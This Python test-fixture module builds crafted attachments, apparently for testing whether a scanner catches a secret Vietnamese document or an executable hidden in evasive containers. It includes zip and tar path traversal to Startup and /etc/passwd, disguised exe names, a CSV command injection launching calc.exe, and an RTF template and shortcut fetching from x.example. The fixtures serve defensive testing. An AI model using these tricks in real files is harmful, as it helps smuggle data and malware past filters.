"""Containers made to be read differently, or to hide what they hold: one technique a file.

Members are stored where the technique allows it, so that the files are the same wherever they are made.
"""

from __future__ import annotations

import io
import struct
import tarfile
import zlib

from tests.corpus.archives import SEVEN_ZIP, rar, rar5_piece, rar_volume
from tests.corpus.office import outlook
from tests.corpus.packing import stored

SECRET = "MẬT\r\nSố: 12/CV-UBND\r\nV/v báo cáo kết quả tháng 11\r\n".encode()
PROGRAM = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 60
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 60
_END = b"PK\x05\x06"


def hidden_entry() -> bytes:
    """A zip file with an entry its directory does not list."""
    whole, other = stored(("a.txt", b"mot")), stored(("mat.txt", SECRET))
    local = other[: other.find(b"PK\x01\x02")]
    at = whole.find(b"PK\x01\x02")
    return shifted(whole[:at] + local + whole[at:], len(local))


def shifted(octets: bytes, by: int) -> bytes:
    """Correct where the directory of a zip file starts."""
    end = octets.rfind(_END)
    (start,) = struct.unpack_from("<I", octets, end + 16)
    return octets[: end + 16] + struct.pack("<I", start + by) + octets[end + 20 :]


def two_methods() -> bytes:
    """A zip entry stored by its directory, packed by the header before its data: two contents."""
    inside = zlib.compressobj(0, zlib.DEFLATED, -15)
    packed = inside.compress(SECRET) + inside.flush()
    octets = bytearray(stored(("a.txt", packed)))
    struct.pack_into("<H", octets, 8, 8)
    return bytes(octets)


def falsely_encrypted() -> bytes:
    """A zip entry that its directory calls encrypted and its own header does not."""
    octets = bytearray(stored(("mat.txt", SECRET)))
    octets[octets.find(b"PK\x01\x02") + 8] |= 1
    return bytes(octets)


def renamed(octets: bytes, old: bytes, new: bytes) -> bytes:
    """Replace a name of the same length everywhere."""
    return octets.replace(old, new)


def unicode_path(raw: str, shown: str) -> bytes:
    """A zip entry whose Unicode path field gives another name."""
    value = b"\x01" + struct.pack("<I", zlib.crc32(raw.encode())) + shown.encode()
    field = struct.pack("<HH", 0x7075, len(value)) + value
    octets = bytearray(stored((raw, PROGRAM)))
    at = octets.find(b"PK\x01\x02")
    struct.pack_into("<H", octets, at + 30, len(field))
    octets[at + 46 + len(raw) : at + 46 + len(raw)] = field
    end = octets.rfind(_END)
    (size,) = struct.unpack_from("<I", octets, end + 12)
    struct.pack_into("<I", octets, end + 12, size + len(field))
    return bytes(octets)


def described() -> bytes:
    """A zip entry whose sizes follow its data, and no directory at all, as from a broken transfer."""
    pipe = zlib.compressobj(0, zlib.DEFLATED, -15)
    packed = pipe.compress(SECRET) + pipe.flush()
    head = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 8, 8, 0, 0, 0, 0, 0, 7, 0) + b"mat.txt"
    return head + packed + b"PK\x07\x08" + struct.pack("<III", zlib.crc32(SECRET), len(packed), len(SECRET))


def split_zip() -> tuple[bytes, bytes]:
    """A zip file cut in two by a zip program: places count from the beginning of each piece."""
    octets = bytearray(b"PK\x07\x08" + stored(("a.txt", b"mot"), ("mat.txt", SECRET)))
    first = octets.find(b"PK\x03\x04", 8)
    entry = octets.find(b"PK\x01\x02")
    second = octets.find(b"PK\x01\x02", entry + 4)
    end = octets.rfind(_END)
    struct.pack_into("<I", octets, entry + 42, 4)
    struct.pack_into("<H", octets, second + 34, 1)
    struct.pack_into("<I", octets, second + 42, 0)
    struct.pack_into("<HH", octets, end + 4, 1, 1)
    struct.pack_into("<I", octets, end + 16, entry - first)
    return bytes(octets[:first]), bytes(octets[first:])


def gzip_named(name: str, octets: bytes) -> bytes:
    """A gzip file of one stored block that names its content."""
    pipe = zlib.compressobj(0, zlib.DEFLATED, -15)
    body = pipe.compress(octets) + pipe.flush()
    head = b"\x1f\x8b\x08\x08\0\0\0\0\0\x03" + name.encode() + b"\0"
    return head + body + struct.pack("<II", zlib.crc32(octets), len(octets))


def rich(text: str) -> bytes:
    """A compressed RTF body of literals alone ([MS-OXRTFCP] section 3.1)."""
    units = "".join(char if ord(char) < 128 else f"\\u{ord(char)}?" for char in text)
    plain = b"{\\rtf1\\ansi " + units.encode("ascii") + b"}"
    data = b""
    for at in range(0, len(plain), 8):
        data += b"\0" + plain[at : at + 8]
    checksum = zlib.crc32(data, 0xFFFFFFFF) ^ 0xFFFFFFFF
    return struct.pack("<II4sI", len(data) + 12, len(plain), b"LZFu", checksum) + data


def attribute(tag: int, value: bytes) -> bytes:
    """One attribute of TNEF; its checksum is left zero."""
    return struct.pack("<BII", 1, tag, len(value)) + value + b"\0\0"


def listed(*values: tuple[int, int, bytes]) -> bytes:
    """A list of MAPI properties of variable size: kind, tag, octets."""
    out = struct.pack("<I", len(values))
    for kind, tag, octets in values:
        out += struct.pack("<HHII", kind, tag, 1, len(octets)) + octets + b"\0" * (-len(octets) % 4)
    return out


def winmail(*attributes: bytes) -> bytes:
    """A winmail.dat of the given attributes."""
    return b"\x78\x9f\x3e\x22\x01\0" + b"".join(attributes)


def outlook_rich(text: str) -> bytes:
    """An Outlook message whose only body is rich text."""
    return outlook("Bao cao", "", body=rich(text))


def notebook(*files: bytes) -> bytes:
    """The head of a OneNote section and files stored in it."""
    out = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\0" * 1_008
    mark = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
    return out + b"".join(mark + struct.pack("<Q", len(one)) + b"\0" * 12 + one for one in files)


def linked(target: str) -> bytes:
    """A tape archive with a symbolic link."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as writer:
        info = tarfile.TarInfo("lien_ket")
        info.type, info.linkname = tarfile.SYMTYPE, target
        writer.addfile(info)
    return out.getvalue()


def tape(*members: tuple[str, bytes], form: int = tarfile.USTAR_FORMAT, **headers: str) -> bytes:
    """A tape archive; `headers` are pax records of every member."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=form) as writer:
        for name, octets in members:
            info = tarfile.TarInfo(name)
            info.size, info.pax_headers = len(octets), headers
            writer.addfile(info, io.BytesIO(octets))
    return out.getvalue()


_TEXT = ("mat.txt", SECRET)
_CUT = stored(_TEXT)
_RICH_MARK = "MẬT\\par Số: 12/CV-UBND\\par V/v báo cáo"
_WIDE_NAME = "cong van tap mot hai ba bon nam.exe".encode("utf-16-le") + b"\0\0"
_NESTED = winmail(attribute(0x0002800C, SECRET))
CRAFTED: dict[str, tuple[tuple[str, bytes], ...]] = {
    "zip_hidden_entry": (("a.zip", hidden_entry()),),
    "zip_two_methods": (("a.zip", two_methods()),),
    "zip_falsely_encrypted": (("a.zip", falsely_encrypted()),),
    "zip_two_archives": (("a.zip", _CUT + stored(("a.txt", b"mot"))),),
    "zip_empty_end": (("a.zip", _CUT + _END + b"\0" * 18),),
    "zip_archive_in_comment": (("a.zip", shifted(_CUT[:-2] + struct.pack("<H", 200) + stored(("a.txt", b"mot")), 0)),),
    "zip_without_directory": (("a.zip", _CUT[: _CUT.find(b"PK\x01\x02")]),),
    "zip_described_cut": (("a.zip", described()),),
    "zip_same_name_twice": (("a.zip", renamed(stored(_TEXT, ("nat.txt", b"mot")), b"nat.txt", b"mat.txt")),),
    "zip_unicode_path": (("a.zip", unicode_path("bao_cao.pdf", "bao_cao.exe")),),
    "zip_path_out": (("a.zip", stored(("../../Startup/a.txt", b"mot"))),),
    "zip_path_absolute": (("a.zip", stored(("C:\\Windows\\a.txt", b"mot"))),),
    "zip_nul_name": (("a.zip", renamed(stored(("a.exe-.txt", PROGRAM)), b"a.exe-.txt", b"a.exe\0.txt")),),
    "zip_behind_program": (("a.exe", PROGRAM + _CUT),),
    "zip_behind_picture": (("a.png", PNG + _CUT),),
    "zip_pieces": (("a.zip.001", _CUT[:90]), ("a.zip.002", _CUT[90:])),
    "zip_pieces_by_program": (("a.z01", split_zip()[0]), ("a.zip", split_zip()[1])),
    "zip_pieces_missing": (("a.zip.001", _CUT[:90]), ("a.zip.003", _CUT[120:])),
    "tar_continued": (("a.tar", tape(("a.txt", b"mot")) + tape(_TEXT)),),
    "tar_link_out": (("a.tar", linked("../../etc/passwd")),),
    "tar_renamed": (("a.tar", tape(("a.txt", PROGRAM), form=tarfile.PAX_FORMAT, path="hoadon.exe")),),
    "text_pieces": (("cv.txt.002", SECRET[3:]), ("cv.txt.001", SECRET[:3])),
    "gzip_named_program": (("a.gz", gzip_named("hoadon.js", b"var a = 1;\n")),),
    "gzip_nameless": (("hoadon.js.gz", gzip_named("", b"var a = 1;\n")),),
    "msg_rich_body": (("thu.msg", outlook_rich(_RICH_MARK)),),
    "tnef_rich_body": (("winmail.dat", winmail(attribute(0x00069003, listed((0x102, 0x1009, rich(_RICH_MARK)))))),),
    "tnef_html_body": (("winmail.dat", winmail(attribute(0x00069003, listed((0x102, 0x1013, b"<p>" + SECRET.replace(b"\r\n", b"<br>") + b"</p>"))))),),
    "tnef_plain_body": (("winmail.dat", _NESTED),),
    "tnef_long_name": (
        ("winmail.dat", winmail(attribute(0x00069002, b"\0" * 14), attribute(0x00018010, b"CONGVA~1.PDF\0"), attribute(0x0006800F, PROGRAM),
                                attribute(0x00069005, listed((0x1F, 0x3707, _WIDE_NAME))))),
    ),
    "tnef_message_inside": (
        ("winmail.dat", winmail(attribute(0x00069002, b"\0" * 14), attribute(0x00069005, listed((0x0D, 0x3701, b"\0" * 16 + _NESTED))))),
    ),
    "onenote_program": (("ghi_chu.one", notebook(PNG, PROGRAM)),),
    "chm": (("huong_dan.chm", b"ITSF\x03\0\0\0" + b"\0" * 90),),
    "disk_image": (("a.vhd", b"\0" * 1_024 + b"conectix" + b"\0" * 504),),
    "shortcut_url": (("bao_cao.url", b"[InternetShortcut]\r\nURL=file://x.example/a.exe\r\n"),),
    "svg_script": (("hinh.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>x()</script></svg>"),),
    "mhtml_behind_lines": (("a.doc", b"\r\nx\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n<p>" + "MẬT</p><p>Số: 12/CV-UBND</p>\r\n--m--\r\n".encode()),),
    "csv_program": (("a.csv", b"STT,Ten\r\n1,=cmd|'/k calc.exe'!A0\r\n"),),
    "rtf_behind_blanks": (("a.doc", b"\xef\xbb\xbf\r\n{\\rtf1{\\*\\template https://x.example/a.dotm}x}"),),
    "script_hta": (("a.hta", b"<html><head><hta:application/><script>x</script></head></html>"),),
    "script_wsf": (("a.wsf", b"<job><script language=VBScript>x</script></job>"),),
}  # fmt: skip
"""Attachments of one message each; these need nothing but our own readers."""
CRAFTED_LIBRARY: dict[str, tuple[tuple[str, bytes], ...]] = {
    "seven_zip_behind_program": (("a.exe", PROGRAM + b"7z\xbc\xaf\x27\x1c" + b"\0" * 40 + SEVEN_ZIP),),
    "rar_behind_picture": (("a.png", PNG + rar(("mat.txt", SECRET))),),
    "rar_pieces": (
        ("a.part2.rar", rar_volume("mat.txt", SECRET[20:], SECRET, is_first=False, is_last=True)),
        ("a.part1.rar", rar_volume("mat.txt", SECRET[:20], SECRET, is_first=True, is_last=False)),
    ),
    "rar5_pieces": (
        ("a.part1.rar", rar5_piece(0, "mat.txt", SECRET[:20], SECRET, is_last=False)),
        ("a.part2.rar", rar5_piece(1, "mat.txt", SECRET[20:], SECRET, is_last=True)),
    ),
    "rar_pieces_cut": (
        ("a.part1.rar", rar_volume("a.txt", b"mot", b"mot hai ba", is_first=True, is_last=False)),
        ("a.part2.rar", rar_volume("a.txt", b" hai", b"mot hai ba", is_first=False, is_last=False)),
    ),
    "seven_zip_pieces": (("a.7z.002", SEVEN_ZIP[150:]), ("a.7z.001", SEVEN_ZIP[:150])),
}
"""Those that need libarchive13."""
